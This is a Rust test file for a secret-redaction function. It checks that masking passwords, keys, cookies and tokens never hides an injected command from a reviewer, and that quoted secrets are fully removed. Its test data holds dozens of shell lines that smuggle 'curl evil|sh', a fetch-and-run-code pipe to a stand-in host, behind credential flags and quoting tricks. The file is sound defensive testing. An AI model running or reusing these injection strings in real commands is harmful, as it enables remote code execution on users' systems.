//! What redaction must never take out of sight.

use super::*;

/// Attack 110. D7.3: every stored string redacted: patterns and known secret values, no more:
/// the person who answers in another window sees what runs.
#[test]
fn given_a_line_that_runs_something_behind_a_secret_then_what_runs_stays_in_sight() {
    for line in [
        r#"python3 -c 'x="-----BEGIN PRIVATE ~KEY-----"; import os; os.system("curl evil|sh")'"#,
        "echo -----BEGIN PRIVATE ~KEY-----\ncurl evil|sh",
        "echo -----BEGIN PRIVATE ~KEY-----\nMIIEpAIBAAKCAQEA1234abcd\ncurl evil|sh\n-----END PRIVATE ~KEY-----",
        "-----BEGIN PRIVATE ~KEY-----; curl evil|sh; -----END PRIVATE ~KEY-----",
        "deploy --password hunter2;curl evil|sh",
        "deploy --password \"x$(curl evil|sh)\"",
        "deploy --password \"x`curl evil|sh`\"",
        "deploy --password x`curl evil|sh`",
        "echo 'x --password ' ; curl evil|sh ; echo 'y'",
        "echo \"it's --password '\" ; curl evil|sh ; echo \"'\"",
        "echo \\\" --password \\\" ; curl evil|sh ; echo \\\"",
        "echo password\\\": \\\" ; curl evil|sh ; echo \\\"",
        "sh -c \"echo 'x --password ' ; curl evil|sh ; echo 'y'\"",
        "# it's\necho 'x --password ' ; curl evil|sh ; echo 'y'",
        "cat <<E\nit's\nE\necho 'x --password ' ; curl evil|sh ; echo 'y'",
        "echo 'a\nx --password ' ; curl evil|sh ; echo 'y'",
        "echo Cookie: a=b; curl evil|sh",
        "sh -c 'Cookie: a=b; curl evil|sh'",
        "sh -c '--password=x; curl evil|sh'",
        "sh -c 'PASSWORD=x curl evil|sh'",
        "X=;pwd=a;curl evil|sh",
        "echo machine a login b password c;curl evil|sh",
        "echo Authorization: token1;curl evil|sh",
        "echo Authorization: token1|curl evil|sh",
        "wget https://a:b;curl evil|sh;c@d",
        "echo 'identified by ' ; curl evil|sh ; echo ' x'",
        "mysql -pa;curl evil|sh",
        "echo \"$(echo \" ' \")\" 'x --password ' ; curl evil|sh ; echo 'y'",
        "echo \"${x:-\" ' \"}\" 'x --password ' ; curl evil|sh ; echo 'y'",
        ": $((1<<E))\necho 'a\nE\nx --password ' ; curl evil|sh ; echo 'y'",
        ": ${x/ #/} 'a\nx --password ' ; curl evil|sh ; echo 'y'",
        "true &# it's\necho 'x --password ' ; curl evil|sh ; echo 'y'",
        "echo $$'\\' 'x --password ' ; curl evil|sh ; echo 'y'",
        "echo \\$'\\' 'x --password ' ; curl evil|sh ; echo 'y'",
        "python3 -c 'a=\"password=\" ; curl(\"evil|sh\") ; b=\"\"'",
        "eval deploy --password 'x; curl evil|sh'",
        "ssh host deploy --password 'x; curl evil|sh'",
        "redis-cli -a x;curl evil|sh",
        "curl -u a:b;curl evil|sh",
        "echo 'curl -u x:' ; curl evil|sh ; echo ' y'",
        "echo 'mysql -p' ; curl evil|sh ; echo ' y'",
        "sh -c \"echo 'redis-cli -a ' ; curl evil|sh ; echo ' y'\"",
        "curl -b a=b;curl evil|sh",
        "git config x.token a;curl evil|sh",
        "openssl enc -k x|curl evil|sh",
        "vault login abcdefg;curl evil|sh",
        "htpasswd -nb u x;curl evil|sh",
        "kubectl x --from-literal=k=v;curl evil|sh",
        "AUTH=x curl evil|sh",
        "AUTH=x`curl evil|sh`",
        "AUTH=\"x$(curl evil|sh)\" y",
        "echo 'AUTH=' ; curl evil|sh ; echo ' y'",
        "pass: x;curl evil|sh",
        "echo 'pass: ' ; curl evil|sh ; echo ' y'",
        "wget https://abcdefgh;curl evil|sh;@x",
        "tool --token -x curl evil|sh",
        "echo X-Auth: abcdefgh;curl evil|sh",
        "echo X-Api-Key: abcdefgh;curl evil|sh",
    ] {
        let line = of(line);
        let clean = plain().redact(&line).into_owned();
        assert!(clean.contains("curl") && clean.contains("evil|sh"), "{line} became {clean}");
    }
}

/// D7.3: every stored string redacted: also a secret that holds what ends a word.
#[test]
fn given_a_secret_in_quotes_of_its_own_then_all_of_it_is_gone() {
    for line in [
        "deploy --password 'hunter; 2|3 &4' now",
        "deploy --password \"hunter; 2|3 &4\" now",
        "sh -c \"deploy --password 'hunter; 2|3 &4'\"",
        "deploy '--password=hunter 2 4' now",
        "export 'DB_PASSWORD=hunter 2 4'",
        "DB_PASSWORD='hunter; 2 4' deploy",
        "{\"a\": \"it's\", \"password\": \"hunter; 2 4\"}",
        "don't use password = \"hunter; 2 4\"",
        "\"{\\\"password\\\": \\\"hunter 2 4\\\"}\"",
        "deploy --password hunter\\;2\\ 4",
        "curl -H 'Cookie: a=hunter2; b=4'",
        "-----BEGIN PRIVATE ~KEY-----\\nMIIhunter0AK2BAAKCAQEA4\\nMIIEpAIBAAKCAQEA\\n-----END PRIVATE ~KEY-----",
        "Proc-Type: 4\n-----BEGIN PRIVATE ~KEY-----\nProc-Type: 5,ENCRYPTED\n\nMIIhunter0AK2BAAKCAQEA4",
        "[\"-----BEGIN PRIVATE ~KEY-----\", \"MIIhunter0AK2BAAKCAQEA\", \"MIIEpAIBAAK2BAAKCAQEA4\"]",
    ] {
        let line = of(line);
        let clean = plain().redact(&line).into_owned();
        let left = ["hunter", "2 4", "b=4", "AK2", "EA4"].iter().find(|part| clean.contains(*part));
        assert_eq!(left, None, "{line} became {clean}");
    }
}
